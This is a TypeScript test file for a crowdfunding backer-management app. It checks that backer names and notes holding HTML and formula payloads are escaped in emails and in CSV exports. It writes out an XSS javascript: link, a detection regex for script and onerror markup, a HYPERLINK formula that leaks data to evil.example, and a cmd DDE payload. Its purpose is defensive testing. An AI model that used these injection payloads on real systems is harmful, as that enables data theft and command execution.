import { randomUUID } from "node:crypto";
import { describe, expect, it } from "vitest";
import { applyImportInTransaction } from "../support/backer-import-in-transaction";
import { toCsv } from "@/lib/csv/to-csv";
import { prisma } from "@/lib/db/client";
import { createProject, createUser } from "@/lib/demo/factories";
import { parseCodeList } from "@/lib/digital-rewards/parse-code-list";
import { materializeEmailMessages } from "@/lib/mail/materialize-email-messages";
import { FORMULA_DDE, FORMULA_HYPERLINK, HTML_NOTE, IMG_NAME, kickstarterCsv, SCRIPT_NAME } from "../support/hostile-files";
import { createDigitalReward, sendDigitalReward } from "../support/digital-reward-use-cases";
import { addTrackingNumber } from "../support/tracking-in-transaction";

const escapeHtml = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

async function importHostileBackers() {
  const owner = await createUser(prisma);
  const project = await createProject(prisma, { ownerId: owner.id, currency: "USD", name: "Tidewater" });
  const csv = kickstarterCsv([
    { name: SCRIPT_NAME, email: "script@example.com", notes: HTML_NOTE },
    { name: IMG_NAME, email: "img@example.com" },
    { name: FORMULA_HYPERLINK, email: "formula@example.com", notes: FORMULA_DDE },
  ]);
  await applyImportInTransaction(project.id, { files: [{ name: "hostile.csv", bytes: new TextEncoder().encode(csv) }] }, owner.id);
  const backers = await prisma.backer.findMany({ where: { projectId: project.id }, orderBy: { backerNumber: "asc" } });
  return { owner, project, backers };
}

async function renderedEmails(kind: string) {
  const messages = await prisma.emailMessage.findMany({
    where: { kind },
    orderBy: { toEmail: "asc" },
    select: { toEmail: true, subject: true, text: true, html: true, idempotencyKey: true, templateId: true, templateValues: true },
  });
  return materializeEmailMessages(messages);
}

describe("names and notes with HTML or formulas are data, never markup", () => {
  it("stores imported names and notes exactly as written", async () => {
    const { backers } = await importHostileBackers();
    expect(backers.map((b) => [b.name, b.notes])).toEqual([
      [SCRIPT_NAME, HTML_NOTE],
      [IMG_NAME, null],
      [FORMULA_HYPERLINK, FORMULA_DDE],
    ]);
  });

  it("escapes them in the tracking email: the name is text, no live tag", async () => {
    const { owner, project, backers } = await importHostileBackers();
    for (const backer of backers.slice(0, 2)) {
      await addTrackingNumber({ projectId: project.id, backerId: backer.id, trackingNumber: "1Z999AA10123456784", carrier: "", otherCarrier: "", trackingUrl: "", actorId: owner.id });
    }
    const [img, script] = await renderedEmails("tracking-shipped");
    expect(script.toEmail).toBe("script@example.com");
    expect(script.html).toContain(escapeHtml(SCRIPT_NAME));
    expect(script.html).not.toContain("<script");
    expect(script.text).toContain(`Hi ${SCRIPT_NAME}`);
    expect(img.html).toContain(escapeHtml(IMG_NAME));
    expect(img.html).not.toMatch(/<img[^>]*onerror/);
  });

  it("escapes them in the digital reward email, together with a reward name that holds markup", async () => {
    const { owner, project, backers } = await importHostileBackers();
    const reward = await createDigitalReward(project.id, { name: `Art book ${IMG_NAME}`, kind: "UNIQUE", instructions: `Redeem at <a href="javascript:alert(1)">here</a>`, sharedValue: null }, owner.id);
    await sendDigitalReward({
      projectId: project.id,
      rewardId: reward.id,
      selection: { kind: "ids", ids: backers.slice(0, 2).map((b) => b.id) },
      codes: { source: "list", list: parseCodeList("CODE-1\nCODE-2") },
      token: randomUUID(),
      actorId: owner.id,
    });
    const emails = await renderedEmails("digital-reward");
    expect(emails).toHaveLength(2);
    for (const email of emails) {
      expect(email.html).not.toMatch(/<script|<img[^>]*onerror|href="javascript:/i);
      expect(email.html).toContain(escapeHtml(IMG_NAME));
    }
    expect(emails.find((e) => e.toEmail === "script@example.com")!.html).toContain(escapeHtml(SCRIPT_NAME));
  });

  it("escapes formula payloads when the names go back out as CSV", async () => {
    const { backers } = await importHostileBackers();
    const csv = toCsv(["Name", "Notes"], backers.map((b) => [b.name, b.notes]));
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for your reward"")"`);
    expect(csv).toContain(`'+cmd|' /C calc'!A0`);
    expect(csv).toContain(SCRIPT_NAME);
  });
});
